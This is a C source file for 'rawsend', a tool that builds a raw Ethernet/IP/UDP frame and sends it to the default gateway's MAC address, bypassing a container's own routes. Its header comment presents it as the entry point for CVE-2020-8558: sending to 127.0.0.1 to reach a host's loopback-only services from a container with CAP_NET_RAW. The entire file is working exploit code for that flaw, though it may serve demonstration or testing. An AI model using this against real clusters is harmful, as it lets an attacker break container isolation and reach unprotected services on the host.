/*
 * rawsend IFACE DST_IP PORT TEXT: what a container with CAP_NET_RAW (in
 * Docker's default set) can do: one UDP datagram to DST_IP:PORT, written
 * as a whole Ethernet frame to the default gateway's MAC address, whatever
 * the container's own routes say (DST_IP 127.0.0.1: the host's loopback,
 * CVE-2020-8558's way in where route_localnet is on). The gateway must be
 * in the ARP table (talk to it first). Exit 0 once sent.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned short
checksum(const void *p, size_t n)
{
	const unsigned short *w = p;
	unsigned long sum = 0;

	for (; n > 1; n -= 2)
		sum += *w++;
	if (n)
		sum += *(const unsigned char *)w;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (unsigned short)~sum;
}

/* The MAC address of the default gateway, from the kernel's tables. */
static int
gateway_mac(unsigned char mac[6])
{
	char line[256], ifc[32], ip[32], hw[32];
	unsigned dst, gw, flags, m[6];
	struct in_addr g = { 0 };
	FILE *f = fopen("/proc/net/route", "r");

	while (f && fgets(line, sizeof line, f))
		if (sscanf(line, "%31s %x %x %x", ifc, &dst, &gw, &flags) == 4 && dst == 0 && (flags & 2))
			g.s_addr = gw;
	if (f)
		fclose(f);
	if (!(f = fopen("/proc/net/arp", "r")))
		return -1;
	while (fgets(line, sizeof line, f))
		if (sscanf(line, "%31s %*s %*s %31s", ip, hw) == 2 && strcmp(ip, inet_ntoa(g)) == 0 &&
		    sscanf(hw, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 6) {
			for (int i = 0; i < 6; i++)
				mac[i] = (unsigned char)m[i];
			fclose(f);
			return 0;
		}
	fclose(f);
	return -1;
}

int
main(int argc, char **argv)
{
	unsigned char frame[1500] = { 0 };
	struct ether_header *eth = (struct ether_header *)frame;
	struct iphdr *ip = (struct iphdr *)(eth + 1);
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	struct sockaddr_ll to = { .sll_family = AF_PACKET };
	struct ifreq ifr;
	size_t len;
	int s;

	if (argc != 5) {
		fprintf(stderr, "usage: rawsend IFACE DST_IP PORT TEXT\n");
		return 2;
	}
	len = strlen(argv[4]);
	if ((s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP))) < 0) {
		perror("rawsend: socket");
		return 1;
	}
	memset(&ifr, 0, sizeof ifr);
	snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", argv[1]);
	if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0 || gateway_mac(eth->ether_dhost) < 0) {
		fprintf(stderr, "rawsend: no gateway in the ARP table\n");
		return 1;
	}
	memcpy(eth->ether_shost, ifr.ifr_hwaddr.sa_data, 6);
	eth->ether_type = htons(ETHERTYPE_IP);
	if (ioctl(s, SIOCGIFADDR, &ifr) < 0)
		return 1;
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
	inet_pton(AF_INET, argv[2], &ip->daddr);
	ip->tot_len = htons((unsigned short)(sizeof *ip + sizeof *udp + len));
	ip->check = checksum(ip, sizeof *ip);
	udp->source = htons(40000);
	udp->dest = htons((unsigned short)atoi(argv[3]));
	udp->len = htons((unsigned short)(sizeof *udp + len));
	memcpy(udp + 1, argv[4], len);
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	to.sll_halen = 6;
	memcpy(to.sll_addr, eth->ether_dhost, 6);
	if (sendto(s, frame, sizeof *eth + sizeof *ip + sizeof *udp + len, 0, (struct sockaddr *)&to,
	           sizeof to) < 0) {
		perror("rawsend: sendto");
		return 1;
	}
	return 0;
}
